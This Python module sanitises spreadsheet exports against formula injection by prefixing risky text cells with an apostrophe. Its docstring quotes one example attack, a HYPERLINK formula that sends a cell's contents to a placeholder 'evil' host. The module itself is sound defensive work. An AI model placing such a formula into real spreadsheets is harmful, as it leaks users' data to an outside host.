"""Spreadsheet cells as every export writes them: text a user typed never becomes a live formula.

A grid, building or room name is typed by a lead (on a form or in an imported roster). Excel, WPS and
LibreOffice run a cell that starts with = + - @ (or a tab or carriage return, which they strip first)
as a formula: `=HYPERLINK("http://evil/?"&A1, "click")` in a name would leak the sheet or run a
command on the reader's machine. OWASP's rule: such a text cell gets a leading `'`, which shows the
text as it was typed; numbers, dates and empty cells stay what they are.

Every writer of a spreadsheet cell goes through here: the CSV writer, the openpyxl workbooks (weekly
report, roster template) and the hand-streamed XLSX (`xlsx.py`). A test checks that no other module
opens a csv writer or an openpyxl workbook of its own.
"""

import csv
import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.styles import Font

#: Written first, so that Excel opens a UTF-8 CSV as UTF-8.
BOM = "\ufeff"

#: What makes a spreadsheet read text as a formula; full-width forms too (a Chinese keyboard types them).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value):
    """The value as a spreadsheet must hold it: text starting like a formula gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class CsvWriter:
    """csv.writer whose rows go through `safe_cell` first."""

    def __init__(self, stream):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream) -> CsvWriter:
    return CsvWriter(stream)


def workbook_bytes(sheets: Iterable[tuple[str, Iterable[Iterable], set[int]]]) -> bytes:
    """An XLSX of (title, rows, indexes of the rows in bold) per sheet, every cell through `safe_cell`."""
    book = Workbook()
    book.remove(book.active)
    bold = Font(bold=True)
    for title, rows, bold_rows in sheets:
        sheet = book.create_sheet(title)
        for index, row in enumerate(rows):
            sheet.append(safe_row(row))
            if index in bold_rows:
                for cell in sheet[sheet.max_row]:
                    cell.font = bold
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """A whole CSV file as Excel opens it right (UTF-8 with BOM), each cell made safe."""
    buffer = io.StringIO()
    buffer.write(BOM)
    csv_writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")
